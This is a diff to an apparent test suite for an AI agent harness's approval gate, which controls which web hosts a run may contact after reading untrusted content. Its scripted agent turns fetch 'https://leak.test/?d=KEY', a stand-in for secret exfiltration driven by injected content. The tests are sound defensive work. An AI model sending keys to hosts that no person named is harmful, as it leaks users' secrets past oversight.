@@ -391,10 +391,10 @@ describe("hosts that a tainted run can contact", () => {
       undefined,
     ],
     [
-      "a host that was read before needs no approval",
+      "[30.5] a host that only the model named needs approval again, although it was read before",
       "look around",
       ["https://docs.test/", "https://docs.test/b?c=1"],
-      undefined,
+      "docs.test",
     ],
   ];
   for (const [title, task, pages, isNew] of cases) {
@@ -467,12 +467,73 @@ describe("hosts that a tainted run can contact", () => {
     },
     async (world) => {
       urls.length = 0;
-      const root = await world.run("go");
+      const root = await world.run("start at https://docs.test/");
       await world.settled(root);
       expect(await approvalRequests(world, root)).toEqual([
         "reader WebFetch: taint ask: words from https://docs.test came in, and leak.test is new",
       ]);
       expect(urls).toEqual(["https://docs.test/", "https://docs.test/2"]);
+    },
+  );
+});
+
+describe("[A71] [30.5] hosts that no person named, in a run that has read nothing untrusted", () => {
+  const urls: string[] = [];
+  const asked = async (world: World, task: string): Promise<string[]> => {
+    urls.length = 0;
+    const root = await world.run(task);
+    await world.settled(root);
+    return approvalRequests(world, root);
+  };
+
+  scenario(
+    "the default asks, and a person's message or task makes a host known",
+    {
+      more: [fetchTool(urls)],
+      script: turns(
+        { calls: [fetches("https://docs.test/a")] },
+        { calls: [fetches("https://leak.test/?d=KEY")] },
+      ),
+    },
+    async (world) => {
+      expect(await asked(world, "see https://docs.test, and not `leak.test`")).toEqual([
+        "tester WebFetch: taint ask: words from https://docs.test came in, and leak.test is new",
+      ]);
+      expect(urls).toEqual(["https://docs.test/a"]);
+    },
+  );
+
+  scenario(
+    "a child's task is a model's text, so it makes no host known",
+    {
+      more: [fetchTool(urls)],
+      agent: "agents: [reader]\ntools: []",
+      cast: { reader: "tools: [WebFetch]" },
+      script: roles({
+        tester: turns({ calls: [delegate("reader", "read https://leak.test")] }),
+        reader: turns({ calls: [fetches("https://leak.test/?d=KEY")] }),
+      }),
+    },
+    async (world) => {
+      expect(await asked(world, "go")).toEqual([
+        "reader WebFetch: default ask WebFetch: no person named leak.test",
+      ]);
+      expect(urls).toEqual([]);
+    },
+  );
+
+  scenario(
+    "an approved page makes no other page of its host known",
+    {
+      more: [fetchTool(urls)],
+      script: turns({ calls: [fetches("https://a.test/1")] }, { calls: [fetches("https://a.test/?d=KEY")] }),
+    },
+    async (world) => {
+      const root = await world.run("look around");
+      await world.settled(root);
+      await decide(world, root, yes());
+      while ((await openApprovalIds(world, root))[0] !== `${root}:m2.0`) await world.settled(root);
+      expect(urls).toEqual(["https://a.test/1"]);
     },
   );
 });
